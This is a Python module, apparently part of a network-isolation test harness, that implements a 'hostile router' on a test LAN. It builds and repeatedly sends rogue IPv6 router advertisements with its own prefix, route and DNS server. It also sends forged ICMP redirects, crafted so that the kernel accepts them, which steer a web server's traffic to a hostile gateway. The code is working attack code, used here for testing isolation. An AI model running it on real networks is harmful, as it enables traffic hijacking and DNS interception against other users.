# SPDX-License-Identifier: GPL-3.0-or-later
"""The hostile router: what it sends unasked, again and again, to everybody on the LAN.

Router advertisements with a prefix, a route and a name server of its own, and ICMP redirects for
the web server to a gateway of its own. The guest and a virtual machine it also asks for everything
that a computer may answer (prying.py). (Its DHCP and DNS answers are in dhcp.py and services.py.)
"""

from __future__ import annotations

import asyncio
import ipaddress
import socket
import struct

from . import names, netns, prying
from .frames import checksum, ethernet, ipv4, ipv6_icmp, mac_bytes

INTERVAL = 0.5  # seconds; a hostile router is in no hurry
_ETH_P_IP, _ETH_P_IPV6 = 0x0800, 0x86DD
_ALL_NODES = "ff02::1"
_ALL_NODES_MAC = "33:33:00:00:00:01"
_ROUTER_LINK_LOCAL = "fe80::bad:1"
_LIFETIME = 1800
_PRIED = {names.GUEST: names.GUEST_ADDRESS, names.VM: names.VM_ADDRESS}


async def run(ns: str) -> None:
    """Never returns."""
    bridge = names.ROUTER_BRIDGE
    # Redirects work only towards a gateway that answers ARP.
    addresses = (f"{names.HOSTILE_GATEWAY}/32", f"{_ROUTER_LINK_LOCAL}/64",
                 f"{names.HOSTILE_RESOLVER6}/64")  # fmt: skip
    netns.ip_batch((f"addr replace {a} dev {bridge} nodad" for a in addresses), ns=ns)
    output = netns.run_in(ns, _raw_socket, bridge)
    asked = [frame for node, address in _PRIED.items()
             for frame in prying.provocations(address, names.MACS[node]).values()]  # fmt: skip
    while True:
        output.send(router_advertisement())
        for node in names.LAN_NODES:
            output.send(redirect(names.LAN_ADDRESSES[node], names.MACS[node]))
        output.send(redirect(names.VM_ADDRESS, names.VM_MAC))
        for frame in asked:
            output.send(frame)
        await asyncio.sleep(INTERVAL)


def router_advertisement() -> bytes:
    prefix = ipaddress.ip_network(names.HOSTILE_PREFIX)
    resolver = socket.inet_pton(socket.AF_INET6, names.HOSTILE_RESOLVER6)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, _LIFETIME, 0, 0)
    # Source link-layer address; prefix, on link and for autoconfiguration; route to everything,
    # of high preference; recursive name server; a small MTU.
    body += struct.pack("!BB6s", 1, 1, mac_bytes(names.ROUTER_MAC))
    body += struct.pack("!BBBBIII16s", 3, 4, prefix.prefixlen, 0xC0, _LIFETIME, _LIFETIME, 0,
                        prefix.network_address.packed)
    body += struct.pack("!BBBBI", 24, 1, 0, 0x08, _LIFETIME)
    body += struct.pack("!BBHI16s", 25, 3, 0, _LIFETIME, resolver)
    body += struct.pack("!BBHI", 5, 1, 0, 1280)
    return ethernet(_ALL_NODES_MAC, _ETH_P_IPV6) + ipv6_icmp(_ROUTER_LINK_LOCAL, _ALL_NODES, body)


def redirect(victim: str, mac: str) -> bytes:
    """ICMP redirect for the web server, as an answer to an echo reply that @victim never sent:
    for that kind of packet the kernel asks for no socket of its own before it believes."""
    echo_reply = struct.pack("!BBHHH", 0, 0, 0, 1, 1)
    inner = ipv4(victim, names.WEB_ADDRESS, socket.IPPROTO_ICMP, echo_reply)
    body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(names.HOSTILE_GATEWAY)) + inner
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    packet = ipv4(names.ROUTER_ADDRESS, victim, socket.IPPROTO_ICMP, body)
    return ethernet(mac, _ETH_P_IP) + packet


def _raw_socket(device: str) -> socket.socket:
    result = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    result.bind((device, 0))
    return result
